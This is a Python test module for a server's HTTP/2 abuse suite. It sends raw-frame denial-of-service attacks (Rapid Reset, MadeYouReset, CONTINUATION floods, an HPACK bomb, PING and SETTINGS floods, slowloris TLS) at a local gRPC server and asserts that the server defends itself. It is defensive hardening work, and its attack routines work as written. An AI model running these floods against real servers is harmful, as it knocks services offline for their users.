"""The attacks of the abuse suite, each a function of a harness.Context that drives raw
HTTP/2 (tests/common/h2wire.py) or raw TCP/TLS at the server, asserts its specific outcome with
harness.check and returns a one-line outcome for the table. Bounded in time and count.
The *_test.py files pick a family each; soak.py rotates all of them."""

import os
import socket
import ssl
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "common"))
import h2wire  # noqa: E402
from h2wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,  # noqa: E402
                    WINDOW_UPDATE, Conn, error_name, frame)
from harness import check  # noqa: E402

ECHO, SLOW, DOWNLOAD = "/abuse.Abuse/Echo", "/abuse.Abuse/Slow", "/abuse.Abuse/Download"
CANCEL, REFUSED_STREAM, ENHANCE_YOUR_CALM = 0x8, 0x7, 0xB
RESOURCE_EXHAUSTED = 8
NGHTTP2_CLIENT_RESET_BURST = 1000


class Attack:
    def __init__(self, name, fn, rss_bound_mib=16, tls=False):
        self.name, self.fn, self.rss_bound_mib, self.tls = name, fn, rss_bound_mib, tls


def wait_for(pred, timeout, step=0.05):
    deadline = time.monotonic() + timeout
    while not pred():
        if time.monotonic() >= deadline:
            return pred()
        time.sleep(step)
    return True


def goaway_text(conn):
    if conn.goaway is None:
        return "no GOAWAY"
    last, code, debug = conn.goaway
    return "GOAWAY %s%s" % (error_name(code), (" '%s'" % debug.decode(errors="replace")) if debug else "")


def assert_usable(conn, what):
    """The connection still serves a normal call after the attack stream was answered."""
    sid = conn.call(ECHO, "still there")
    conn.pump(lambda: conn.finished(sid), 3.0)
    st = conn.streams[sid]
    check(st.grpc_status() == 0, "%s: the connection is not usable afterwards (echo: grpc-status %s, rst %s, %s, closed %s)"
          % (what, st.grpc_status(), st.rst, goaway_text(conn), conn.closed))


def handlers_settle(ctx, method, started_before, cancelled_before, timeout=3.0):
    """Waits until every handler of `method` started since the snapshot was cancelled;
    returns (started, cancelled) since the snapshot."""
    s = ctx.server
    wait_for(lambda: s.count("start", method) - started_before == s.count("cancelled", method) - cancelled_before, timeout)
    return s.count("start", method) - started_before, s.count("cancelled", method) - cancelled_before


def snapshot(ctx, method):
    return ctx.server.count("start", method), ctx.server.count("cancelled", method)


# ---------------------------------------------------------------- resets

def rapid_reset(ctx, total=5000, batch=50):
    """Open-then-reset (CVE-2023-44487): HEADERS + request + RST_STREAM CANCEL, 5,000 times,
    on as many connections as it takes (a connection that answers GOAWAY is replaced)."""
    before = snapshot(ctx, SLOW)
    sent, outcomes, accepted, unpunished = 0, {}, [], []
    deadline = time.monotonic() + 30
    while sent < total and time.monotonic() < deadline:
        conn = Conn(ctx.port)
        conn.handshake()
        t0 = time.monotonic()
        sent_here = 0
        while sent < total and conn.goaway is None and conn.closed is None and time.monotonic() < deadline:
            out = b""
            for _ in range(batch):
                sid, req = conn.call_bytes(SLOW, "10000")
                out += req + frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
            if not conn.send(out, timeout=3.0):
                break
            sent += batch
            sent_here += batch
            conn.poll(0)
        conn.pump(lambda: conn.goaway is not None or conn.closed is not None, 0.5)
        if conn.goaway is None and conn.closed is None and \
                sent_here > NGHTTP2_CLIENT_RESET_BURST + 33 * (time.monotonic() - t0) + 100:
            unpunished.append(sent_here)
        key = goaway_text(conn) if conn.goaway else ("closed" if conn.closed else "open")
        outcomes[key] = outcomes.get(key, 0) + 1
        # The GOAWAY's last stream id says how many streams the server took before it gave up
        # (we keep sending while it is on its way, so what we sent says nothing).
        if conn.goaway:
            accepted.append(((conn.goaway[0] + 1) // 2, time.monotonic() - t0))
        conn.close()
    check(sent >= total, "only %d of %d open-then-resets sent in 30 s" % (sent, total))
    started, cancelled = handlers_settle(ctx, SLOW, *before)
    # A bucket of ~1000 resets (+33/s) must end every connection that went well past it:
    # nghttp2's own for client resets (not a ServerOptions field; INTERNAL_ERROR) or ours
    # (reset_burst; ENHANCE_YOUR_CALM), which also counts the server's REFUSED_STREAMs when a
    # burst of open-then-resets briefly holds more streams than max_concurrent_streams.
    # (Judged per connection: a slow server, under ASan say, lets one connection's 5,000
    # resets all reach the socket before its GOAWAY arrives.)
    # A floor of 100 catches a connection cut off by a mere handful of cancellations.
    check(accepted and not unpunished,
          "%d open-then-resets, conns ended: %s; connections past ~%d resets without GOAWAY: %s"
          % (sent, outcomes, NGHTTP2_CLIENT_RESET_BURST, unpunished))
    over = [(n, round(t, 1)) for n, t in accepted if not 100 <= n <= NGHTTP2_CLIENT_RESET_BURST + 33 * t + 100]
    check(not over, "GOAWAY after (streams, seconds) %s; the bucket is %d + 33/s" % (over, NGHTTP2_CLIENT_RESET_BURST))
    check(started == cancelled, "%d Slow handlers started, only %d cancelled 3 s after their streams were reset"
          % (started, cancelled))
    return "%d resets on %d conns: %s after %s streams; %d handlers started, all cancelled" % (
        sent, sum(outcomes.values()), ", ".join("%s x%d" % kv for kv in outcomes.items()),
        "/".join(str(n) for n, _ in accepted), started)


def made_you_reset(ctx, total=5000, batch=50):
    """MadeYouReset (CVE-2025-8671): frames that make the *server* reset a stream, 5,000
    times; the reset bucket (reset_burst) must run dry into GOAWAY ENHANCE_YOUR_CALM.
    Two primitives alternate: DATA beyond the request's content-length (PROTOCOL_ERROR) and
    a stream WINDOW_UPDATE overflowing 2^31-1 (FLOW_CONTROL_ERROR). WINDOW_UPDATE 0 is no
    use here: nghttp2 answers it with a connection error at once."""
    burst = ctx.flag("reset-burst", 1000)
    sent, results = 0, []
    deadline = time.monotonic() + 30
    while sent < total and time.monotonic() < deadline:
        conn = Conn(ctx.port)
        conn.handshake()
        t0 = time.monotonic()
        while sent < total and conn.goaway is None and conn.closed is None and time.monotonic() < deadline:
            out = b""
            for i in range(batch):
                sid = conn.new_sid()
                if i % 2:
                    out += frame(HEADERS, END_HEADERS, sid, h2wire.request_block(ECHO, [("content-length", "1")]))
                    out += frame(DATA, END_STREAM, sid, h2wire.grpc_message("more than one byte"))
                else:
                    out += frame(HEADERS, END_HEADERS, sid, h2wire.request_block(ECHO))
                    out += frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0x7FFFFFFF))
            if not conn.send(out, timeout=3.0):
                break
            sent += batch
            # Keep under max_concurrent_streams as a real attacker would: nghttp2 closes a
            # stream only once its RST_STREAM went out, so wait for this batch's resets.
            target = conn.next_sid // 2 - batch // 2
            conn.pump(lambda: conn.rst_count >= target or conn.goaway is not None, 2.0)
        conn.pump(lambda: conn.goaway is not None or conn.closed is not None, 1.0)
        results.append((conn.rst_count, conn.goaway, conn.closed, time.monotonic() - t0))
        conn.close()
    check(sent >= total, "only %d of %d malformed requests sent in 30 s" % (sent, total))
    first_rsts, goaway, _, elapsed = results[0]
    check(goaway is not None and goaway[1] == ENHANCE_YOUR_CALM,
          "after %d server-side resets: %s (expected GOAWAY ENHANCE_YOUR_CALM once %d were spent)"
          % (first_rsts, "GOAWAY %s" % error_name(goaway[1]) if goaway else "no GOAWAY", burst))
    refill = ctx.flag("reset-refill-per-second", 33)
    check(burst * 0.9 <= first_rsts <= burst + refill * elapsed + 50,
          "GOAWAY after %d server resets; the bucket holds %d (+%d/s)" % (first_rsts, burst, refill))
    codes = sorted({error_name(g[1]) if g else "none" for _, g, _, _ in results})
    return "%d malformed on %d conns; GOAWAY %s after %d RST_STREAMs on the first" % (
        sent, len(results), "/".join(codes), first_rsts)


def stream_101(ctx):
    """One stream more than SETTINGS_MAX_CONCURRENT_STREAMS: that one is REFUSED_STREAM."""
    limit = ctx.flag("max-concurrent-streams", 100)
    before = snapshot(ctx, SLOW)
    conn = Conn(ctx.port)
    conn.handshake()
    check(conn.server_settings.get(3) == limit, "server advertised max concurrent streams %s, expected %d"
          % (conn.server_settings.get(3), limit))
    out, sids = b"", []
    for _ in range(limit + 1):
        sid, req = conn.call_bytes(SLOW, "8000")
        sids.append(sid)
        out += req
    conn.send(out)
    last = sids[-1]
    conn.pump(lambda: conn.streams[last].rst is not None or conn.streams[last].ended, 3.0)
    conn.pump(lambda: False, 0.3)  # anything else that was going to be refused
    check(conn.streams[last].rst == REFUSED_STREAM, "stream #%d: rst %s, grpc-status %s (expected RST_STREAM REFUSED_STREAM)"
          % (limit + 1, conn.streams[last].rst, conn.streams[last].grpc_status()))
    early = [s for s in sids[:-1] if conn.streams[s].rst is not None or conn.streams[s].ended]
    check(not early, "%d of the first %d streams ended early" % (len(early), limit))
    conn.close(rst=True)
    started, cancelled = handlers_settle(ctx, SLOW, *before)
    check(started == limit and cancelled == limit, "%d handlers started, %d cancelled after the peer vanished (expected %d)"
          % (started, cancelled, limit))
    return "stream %d: RST_STREAM REFUSED_STREAM; first %d served" % (limit + 1, limit)


def peer_vanishes(ctx):
    """A peer with running calls (sleeping and streaming) vanishes: TCP RST via SO_LINGER 0.
    Every handler is cancelled and the server's fd count returns to its baseline."""
    fds0 = ctx.server.fd_count()
    s_before, d_before = snapshot(ctx, SLOW), snapshot(ctx, DOWNLOAD)
    conn = Conn(ctx.port)
    conn.handshake()
    conn.auto_window = False  # downloads stall on flow control and stay in their handlers
    out = b""
    for _ in range(10):
        out += conn.call_bytes(SLOW, "10000")[1] + conn.call_bytes(DOWNLOAD, "104857600")[1]
    conn.send(out)
    s = ctx.server
    check(wait_for(lambda: s.count("start", SLOW) - s_before[0] >= 10 and s.count("start", DOWNLOAD) - d_before[0] >= 10, 3),
          "handlers did not start")
    conn.pump(lambda: False, 0.2)
    conn.close(rst=True)
    slow_started, slow_cancelled = handlers_settle(ctx, SLOW, *s_before)
    dl_started, dl_cancelled = handlers_settle(ctx, DOWNLOAD, *d_before)
    check(slow_cancelled == slow_started == 10 and dl_cancelled == dl_started == 10,
          "after the RST: Slow %d/%d and Download %d/%d handlers cancelled" % (slow_cancelled, slow_started,
                                                                              dl_cancelled, dl_started))
    check(wait_for(lambda: s.fd_count() <= fds0, 3), "server fds %d, %d before the connection" % (s.fd_count(), fds0))
    return "20 handlers cancelled; fds back to %d" % s.fd_count()


# ---------------------------------------------------------------- headers and messages

def continuation_flood(ctx, max_frames=10000):
    """HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316 family)."""
    conn = Conn(ctx.port)
    conn.handshake()
    sid = conn.new_sid()
    conn.send_frame(HEADERS, 0, sid, h2wire.request_block(ECHO))
    sent = 0
    t0 = time.monotonic()
    while sent < max_frames and conn.goaway is None and conn.closed is None and time.monotonic() - t0 < 10:
        out = b"".join(frame(CONTINUATION, 0, sid, h2wire.literal("x-c%d" % (sent + i), "v")) for i in range(100))
        if not conn.send(out, timeout=2.0):
            break
        sent += 100
        conn.poll(0)
    closed = conn.wait_closed(5.0)
    check(conn.goaway is not None or closed, "%d CONTINUATION frames accepted and the connection is still open" % sent)
    check(closed, "%s but the connection was not closed within 5 s" % goaway_text(conn))
    conn.close()
    return "%s, closed (%s) after %d CONTINUATIONs sent" % (goaway_text(conn), conn.closed, sent)


def expect_resource_exhausted(conn, sid, what, within=3.0):
    conn.pump(lambda: conn.finished(sid), within)
    st = conn.streams[sid]
    ok = st.grpc_status() == RESOURCE_EXHAUSTED or st.http_status() == 431
    check(ok, "%s: grpc-status %s, :status %s, rst %s, %s, closed %s (expected RESOURCE_EXHAUSTED or 431)"
          % (what, st.grpc_status(), st.http_status(), st.rst, goaway_text(conn), conn.closed))
    return "grpc-status 8" if st.grpc_status() == RESOURCE_EXHAUSTED else "HTTP 431"


def hpack_bomb(ctx, refs=4000, value_size=4000):
    """One large header put in the HPACK dynamic table once, then referenced thousands of
    times by its one-byte index: ~16 MB of header list from ~8 KB on the wire."""
    conn = Conn(ctx.port)
    conn.handshake()
    sid = conn.new_sid()
    block = h2wire.request_block(ECHO) + h2wire.literal_indexed("x-bomb", "b" * value_size) + h2wire.indexed(62) * refs
    conn.send(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, h2wire.grpc_message("x")))
    answer = expect_resource_exhausted(conn, sid, "HPACK bomb")
    assert_usable(conn, "HPACK bomb")
    conn.close()
    return "%s for %d x %d B refs; connection usable" % (answer, refs + 1, value_size)


def big_header_block(conn, sid, block):
    """HEADERS + CONTINUATIONs in 16 KiB pieces (the default SETTINGS_MAX_FRAME_SIZE)."""
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    out = b""
    for i, p in enumerate(pieces):
        flags = END_HEADERS if i == len(pieces) - 1 else 0
        out += frame(HEADERS if i == 0 else CONTINUATION, flags, sid, p)
    return out


def header_17k(ctx):
    conn = Conn(ctx.port)
    conn.handshake()
    sid = conn.new_sid()
    block = h2wire.request_block(ECHO, [("x-big", "h" * (17 << 10))])
    conn.send(big_header_block(conn, sid, block) + frame(DATA, END_STREAM, sid, h2wire.grpc_message("x")))
    answer = expect_resource_exhausted(conn, sid, "17 KiB header")
    assert_usable(conn, "17 KiB header")
    conn.close()
    return "%s; connection usable" % answer


def header_600_fields(ctx):
    conn = Conn(ctx.port)
    conn.handshake()
    sid = conn.new_sid()
    block = h2wire.request_block(ECHO, [("x-f%03d" % i, "v") for i in range(600)])
    conn.send(big_header_block(conn, sid, block) + frame(DATA, END_STREAM, sid, h2wire.grpc_message("x")))
    answer = expect_resource_exhausted(conn, sid, "600 header fields")
    assert_usable(conn, "600 header fields")
    conn.close()
    return "%s; connection usable" % answer


def length_prefix_4g(ctx):
    """A gRPC message announcing 4 GiB - 1 bytes: refused before any payload is buffered."""
    conn = Conn(ctx.port)
    conn.handshake()
    sid = conn.new_sid()
    conn.send(frame(HEADERS, END_HEADERS, sid, h2wire.request_block(ECHO)) +
              frame(DATA, 0, sid, b"\x00\xff\xff\xff\xff" + b"z" * 1000))
    t0 = time.monotonic()
    answer = expect_resource_exhausted(conn, sid, "4 GiB length prefix", within=1.0)
    took = (time.monotonic() - t0) * 1000
    assert_usable(conn, "4 GiB length prefix")
    conn.close()
    return "%s after %.0f ms; connection usable" % (answer, took)


# ---------------------------------------------------------------- floods

def ping_flood_reading(ctx, max_pings=2000):
    """PINGs with no call open, faster than min_client_ping_interval, ACKs read: strikes,
    then GOAWAY ENHANCE_YOUR_CALM 'too_many_pings'."""
    conn = Conn(ctx.port)
    conn.handshake()
    sent = 0
    t0 = time.monotonic()
    while sent < max_pings and conn.goaway is None and conn.closed is None and time.monotonic() - t0 < 5:
        conn.send_frame(PING, 0, 0, struct.pack(">Q", sent))
        sent += 1
        conn.poll(0.001)
    conn.pump(lambda: conn.goaway is not None or conn.closed is not None, 1.0)
    check(conn.goaway is not None, "%d pings, %d acked, no GOAWAY (closed: %s)" % (sent, conn.ping_acks, conn.closed))
    _, code, debug = conn.goaway
    check(code == ENHANCE_YOUR_CALM and debug == b"too_many_pings",
          "%s (expected GOAWAY ENHANCE_YOUR_CALM 'too_many_pings')" % goaway_text(conn))
    strikes = ctx.flag("max-ping-strikes", 2)
    # The first ping is free, each later one a strike, the one past the strikes the GOAWAY's
    # cause (nghttp2 acks it too): at most strikes + 2 ACKs.
    check(conn.ping_acks <= strikes + 2, "%d pings acked before the GOAWAY; %d strikes allowed" % (conn.ping_acks, strikes))
    conn.close()
    return "%s after %d acked pings" % (goaway_text(conn), conn.ping_acks)


def flood_without_reading(ctx, make_frames, count, what):
    """Sends `count` frames, never reading, through a small receive buffer; then drains.
    Returns (frames sent, closed by server, goaway)."""
    conn = Conn(ctx.port, rcvbuf=4096)
    conn.handshake()
    sent, batch = 0, 1000
    t0 = time.monotonic()
    blocked = False
    while sent < count and time.monotonic() - t0 < 10:
        # Not conn.send: that reads while blocked, and this peer never reads.
        conn.sock.settimeout(2.0)
        try:
            conn.sock.sendall(make_frames(sent, batch))
        except socket.timeout:
            blocked = True
            break
        except OSError:
            break
        sent += batch
    closed = conn.wait_closed(5.0)
    result = (sent, blocked, conn.closed, conn.goaway)
    conn.close()
    return result


def ping_flood_nonreading(ctx, count=200000):
    sent, blocked, closed, goaway = flood_without_reading(
        ctx, lambda base, n: b"".join(frame(PING, 0, 0, struct.pack(">Q", base + i)) for i in range(n)), count, "PING")
    check(closed is not None, "%d PINGs sent (blocked: %s), connection still open 5 s after" % (sent, blocked))
    return "closed (%s) after %d PINGs sent%s" % (closed, sent, ", " + error_name(goaway[1]) if goaway else "")


def settings_flood(ctx, count=100000):
    sent, blocked, closed, goaway = flood_without_reading(
        ctx, lambda base, n: frame(SETTINGS, 0, 0, b"") * n, count, "SETTINGS")
    # The bound is memory (RSS, checked by the harness): the server may close the connection
    # (nghttp2's cap on queued ACKs) or stop reading from it (our queued-output pause).
    check(closed is not None or blocked, "all %d SETTINGS taken and the connection open, with nothing queued?" % sent)
    return ("closed (%s)" % closed if closed else "server stopped reading") + " after %d SETTINGS sent%s" % (
        sent, ", GOAWAY " + error_name(goaway[1]) if goaway else "")


def empty_frame_flood(ctx, count=1000):
    """DATA frames with no payload and no END_STREAM on an open stream."""
    limit = ctx.flag("max-empty-frames", 10)
    conn = Conn(ctx.port)
    conn.handshake()
    sid = conn.headers_only(ECHO)
    conn.send(frame(DATA, 0, sid, b"") * count, timeout=3.0)
    conn.pump(lambda: conn.goaway is not None or conn.closed is not None, 3.0)
    check(conn.goaway is not None and conn.goaway[1] == ENHANCE_YOUR_CALM,
          "%d empty DATA frames (limit %d): %s, closed %s (expected GOAWAY ENHANCE_YOUR_CALM)"
          % (count, limit, goaway_text(conn), conn.closed))
    conn.close()
    return "%s" % goaway_text(conn)


# ---------------------------------------------------------------- slow peers

def slow_reader(ctx, streams=100, size=1 << 20):
    """SETTINGS_INITIAL_WINDOW_SIZE 0 and 100 downloads of 1 MiB: nothing can be sent.
    Memory stays bounded (write watermark, queued-output cap) and, after
    stalled_stream_timeout, every stream is reset with CANCEL and its handler cancelled."""
    stall_ms = ctx.flag("stalled-stream-timeout-ms", 300000)
    before = snapshot(ctx, DOWNLOAD)
    conn = Conn(ctx.port)
    conn.auto_window = False
    conn.handshake(settings=[(h2wire.INITIAL_WINDOW_SIZE, 0)])
    out, sids = b"", []
    for _ in range(streams):
        sid, req = conn.call_bytes(DOWNLOAD, str(size))
        sids.append(sid)
        out += req
    t0 = time.monotonic()
    conn.send(out)
    limit_s = stall_ms / 1000.0 + 4.0
    check(limit_s <= 20, "stalled_stream_timeout %d ms is too long for a bounded test" % stall_ms)
    conn.pump(lambda: all(conn.streams[s].rst is not None or conn.streams[s].ended for s in sids), limit_s)
    took = time.monotonic() - t0
    codes = {}
    for s in sids:
        st = conn.streams[s]
        key = error_name(st.rst) if st.rst is not None else ("grpc-status %s" % st.grpc_status() if st.ended else "open")
        codes[key] = codes.get(key, 0) + 1
    check(codes.get("CANCEL", 0) == streams, "after %.1f s (stall timeout %d ms): streams %s, %s"
          % (took, stall_ms, codes, goaway_text(conn)))
    check(took >= stall_ms / 1000.0 * 0.8, "streams reset after %.1f s, before the %d ms stall timeout" % (took, stall_ms))
    started, cancelled = handlers_settle(ctx, DOWNLOAD, *before)
    check(started == cancelled == streams, "%d Download handlers started, %d cancelled" % (started, cancelled))
    conn.close()
    return "%d streams RST CANCEL after %.1f s; handlers cancelled" % (streams, took)


def truncated_preface(ctx, conns=20):
    """Half a client preface, then silence: closed at handshake_timeout."""
    timeout_ms = ctx.flag("handshake-timeout-ms", 10000)
    socks = []
    for _ in range(conns):
        s = socket.create_connection(("127.0.0.1", ctx.port), timeout=5)
        s.sendall(h2wire.PREFACE[:10])
        socks.append(s)
    t0 = time.monotonic()
    closed_after = closed_by_server(socks, timeout_ms / 1000.0 + 3.0)
    for s in socks:
        s.close()
    return check_closed_at_timeout(closed_after, timeout_ms, t0, "truncated preface")


def closed_by_server(socks, limit_s):
    """Waits for the server to close each socket; returns each one's close time or None."""
    import select
    t0 = time.monotonic()
    closed = [None] * len(socks)
    while time.monotonic() - t0 < limit_s and None in closed:
        open_socks = [s for s, c in zip(socks, closed) if c is None]
        r, _, _ = select.select(open_socks, [], [], 0.05)
        for s in r:
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if not data:
                closed[socks.index(s)] = time.monotonic()
    return closed


def check_closed_at_timeout(closed_after, timeout_ms, t0, what):
    still_open = sum(1 for c in closed_after if c is None)
    check(still_open == 0, "%s: %d of %d connections still open %.1f s after (handshake timeout %d ms)"
          % (what, still_open, len(closed_after), timeout_ms / 1000.0 + 3, timeout_ms))
    earliest = min(closed_after) - t0
    latest = max(closed_after) - t0
    check(earliest >= timeout_ms / 1000.0 * 0.5,
          "%s: closed after %.2f s, well before the %d ms handshake timeout" % (what, earliest, timeout_ms))
    return "%d conns closed after %.1f-%.1f s (timeout %.1f s)" % (len(closed_after), earliest, latest, timeout_ms / 1000.0)


def tls_garbage(ctx):
    """Random bytes on the TLS port: that connection closed at once; the port still serves."""
    s = socket.create_connection(("127.0.0.1", ctx.tls_port), timeout=5)
    s.sendall(os.urandom(4096))
    t0 = time.monotonic()
    closed = closed_by_server([s], 3.0)
    s.close()
    check(closed[0] is not None, "garbage on the TLS port: connection still open after 3 s")
    conn = Conn(ctx.tls_port, tls=True)
    check(conn.sock.selected_alpn_protocol() == "h2", "TLS port: ALPN %s" % conn.sock.selected_alpn_protocol())
    conn.handshake()
    assert_usable(conn, "TLS port after garbage")
    conn.close()
    return "closed after %.0f ms; TLS port still serves" % ((closed[0] - t0) * 1000)


def client_hello():
    """The bytes of a real TLS ClientHello (ALPN h2), to trickle."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def slowloris_tls(ctx, conns=10, every_s=0.1):
    """TLS handshakes trickled a byte at a time: closed at handshake_timeout."""
    import select
    timeout_ms = ctx.flag("handshake-timeout-ms", 10000)
    hello = client_hello()
    socks = [socket.create_connection(("127.0.0.1", ctx.tls_port), timeout=5) for _ in range(conns)]
    t0 = time.monotonic()
    closed = [None] * conns
    pos = 0
    limit_s = timeout_ms / 1000.0 + 3.0
    while time.monotonic() - t0 < limit_s and None in closed:
        for i, s in enumerate(socks):
            if closed[i] is None and pos < len(hello):
                try:
                    s.send(hello[pos:pos + 1])
                except OSError:
                    closed[i] = time.monotonic()
        pos += 1
        end = time.monotonic() + every_s
        while time.monotonic() < end:
            open_socks = [s for s, c in zip(socks, closed) if c is None]
            if not open_socks:
                break
            r, _, _ = select.select(open_socks, [], [], max(0, end - time.monotonic()))
            for s in r:
                try:
                    data = s.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    closed[socks.index(s)] = time.monotonic()
    for s in socks:
        s.close()
    return check_closed_at_timeout(closed, timeout_ms, t0, "slowloris TLS (%d of %d hello bytes sent)" % (min(pos, len(hello)), len(hello)))


def connection_churn(ctx, total=1000, batch=100, pause_s=0.02):
    """1,000 connections opened and dropped (a third after a preface, a third reset), in
    batches of 100 with a 20 ms pause between: on two shared cores an unpaced burst mostly
    measures the attacker's own loopback TCP work competing with the canary for the CPU."""
    fds0 = ctx.server.fd_count()
    for start in range(0, total, batch):
        socks = []
        for i in range(start, start + batch):
            s = socket.create_connection(("127.0.0.1", ctx.port), timeout=5)
            if i % 3 == 0:
                s.sendall(h2wire.PREFACE + frame(SETTINGS, 0, 0))
            socks.append(s)
        for i, s in enumerate(socks):
            if (start + i) % 3 == 1:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            s.close()
        time.sleep(pause_s)
    t0 = time.monotonic()
    back = wait_for(lambda: ctx.server.fd_count() <= fds0, 5.0)
    check(back, "server fds %d, %d before the %d connections (5 s after)" % (ctx.server.fd_count(), fds0, total))
    return "%d conns; fds back to %d after %.1f s" % (total, ctx.server.fd_count(), time.monotonic() - t0)


ALL = {
    "rapid_reset": Attack("Rapid Reset x5000", rapid_reset, 32),
    "made_you_reset": Attack("MadeYouReset x5000", made_you_reset, 32),
    "stream_101": Attack("stream 101", stream_101, 16),
    "peer_vanishes": Attack("peer vanishes (RST)", peer_vanishes, 32),
    "continuation_flood": Attack("CONTINUATION flood", continuation_flood, 16),
    "hpack_bomb": Attack("HPACK bomb", hpack_bomb, 8),
    "header_17k": Attack("17 KiB header list", header_17k, 8),
    "header_600": Attack("600-field header list", header_600_fields, 8),
    "length_4g": Attack("4 GiB length prefix", length_prefix_4g, 8),
    "ping_flood_reading": Attack("ping flood (reading)", ping_flood_reading, 8),
    "ping_flood_nonreading": Attack("ping flood (not reading)", ping_flood_nonreading, 16),
    "settings_flood": Attack("SETTINGS flood", settings_flood, 16),
    "empty_frame_flood": Attack("empty-frame flood", empty_frame_flood, 8),
    "slow_reader": Attack("slow reader, window 0", slow_reader, 48),
    "truncated_preface": Attack("truncated preface", truncated_preface, 8),
    "tls_garbage": Attack("garbage on TLS port", tls_garbage, 8, tls=True),
    "slowloris_tls": Attack("slowloris TLS handshake", slowloris_tls, 8, tls=True),
    "connection_churn": Attack("1000 conns open+drop", connection_churn, 16),
}
